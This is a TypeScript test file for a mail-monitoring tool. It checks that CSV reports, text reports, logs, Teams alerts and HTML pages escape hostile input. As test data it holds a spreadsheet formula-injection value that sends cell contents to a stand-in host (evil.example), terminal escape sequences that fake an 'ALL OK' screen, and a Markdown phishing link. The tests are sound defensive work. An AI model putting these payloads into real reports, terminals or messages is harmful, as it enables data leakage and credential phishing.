import assert from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import { request } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { PassThrough } from 'node:stream';
import { after, describe, test } from 'node:test';
import { buildTeamsBody } from '../../src/alerting/providers/teams.js';
import { DEFAULT_POLICY } from '../../src/history/accounting.js';
import { openSqliteStore } from '../../src/history/backends/sqlite.js';
import { buildReport, type ConfiguredCheck } from '../../src/history/report.js';
import { renderReport } from '../../src/history/report-format.js';
import { startHttpServer } from '../../src/http/server.js';
import { createLogger } from '../../src/log/logger.js';
import { Redactor } from '../../src/log/redact.js';
import { MailprobeMetrics } from '../../src/metrics/metrics.js';
import { MemoryLogger } from '../alerting/support.js';

// Issue 25 row 9: CSV formula injection through tenant keys in `report --format csv`; raw ANSI escapes in
// `report --format text` and pretty logs; Teams rendered server text as Markdown links; no CSP on the pages.

const ESC = '\x1b[2J\x1b[32mALL OK';

describe('outputs escape for their sink', () => {
  const dir = mkdtempSync(join(tmpdir(), 'mailprobe-hostile-escape-'));
  after(() => rmSync(dir, { recursive: true, force: true }));

  test('report csv: cells a spreadsheet would run as a formula are text; report text: escapes are shown, not run', async () => {
    const store = await openSqliteStore(join(dir, 'history.sqlite'), { now: Date.UTC(2030, 0, 1) });
    try {
      const configured: ConfiguredCheck[] = [
        { monitor: `probe${ESC}`, tenant: '=HYPERLINK("https://evil.example/?"&A1,"open")', check: 'imap' },
        { monitor: '@SUM(1+1)', tenant: '-2+3', check: 'imap' },
      ];
      const report = await buildReport(
        { store, policy: DEFAULT_POLICY, configured },
        { from: Date.UTC(2030, 0, 1), to: Date.UTC(2030, 1, 1), now: Date.UTC(2030, 1, 2), label: '2030-01' },
      );
      const rows = renderReport(report, 'csv').trimEnd().split('\r\n').slice(1);
      for (const row of rows) for (const cell of row.split(',')) assert.doesNotMatch(cell.replace(/^"/, ''), /^[=+\-@\t\r]/, row);
      assert.ok(rows.some((row) => row.includes(`"'=HYPERLINK(""https://evil.example/?""&A1`)));
      const text = renderReport(report, 'text');
      assert.ok(!text.includes('\x1b'), 'no raw escape character in the text report');
      assert.ok(text.includes('probe\\x1b[2J'));
    } finally {
      await store.close();
    }
  });

  test("pretty logs: a server's escapes in a field or the message are shown as \\x1b", () => {
    const stream = new PassThrough();
    const logger = createLogger({ format: 'pretty', redactor: new Redactor(), stream });
    logger.warn(`check failed${ESC}`, { serverText: ESC, reason: `auth${ESC.replace(/ /g, '')}` });
    const line = String(stream.read());
    assert.ok(!line.includes('\x1b'), JSON.stringify(line));
    assert.match(line, /check failed\\x1b\[2J/);
  });

  test("Teams: a server's Markdown link is shown as written, not as a link", () => {
    const body = buildTeamsBody({
      monitor: 'm',
      tenant: 't',
      mailbox: 'a@contoso.com',
      check: 'imap',
      event: 'firing',
      status: 'firing',
      fingerprint: 'f',
      startedAt: 0,
      stage: 'auth',
      reason: 'auth_failed',
      category: 'auth',
      summary: 'refused',
      serverText: 'NO [Sign in again](https://evil.example/login) **now**',
      fixes: [],
    });
    const text = JSON.stringify(body);
    assert.ok(!text.includes('[Sign in again](https'), text);
    assert.ok(text.includes(String.raw`\\[Sign in again\\](https://evil.example/login) \\*\\*now\\*\\*`), text);
  });

  test('HTML pages: a strict Content-Security-Policy that no site may frame', async () => {
    const server = await startHttpServer({
      host: '127.0.0.1',
      port: 0,
      metrics: new MailprobeMetrics({ version: '0', collectDefault: false }),
      logger: new MemoryLogger(),
      health: () => ({ ready: true, detail: {} }),
      status: () => ({}),
    });
    try {
      const policy = await new Promise<string>((resolve, reject) => {
        request({ host: '127.0.0.1', port: server.port, path: '/', agent: false }, (res) => {
          res.resume();
          resolve(String(res.headers['content-security-policy']));
        })
          .on('error', reject)
          .end();
      });
      assert.match(policy ?? '', /default-src 'none'/);
      assert.match(policy ?? '', /frame-ancestors 'none'/);
    } finally {
      await server.close();
    }
  });
});
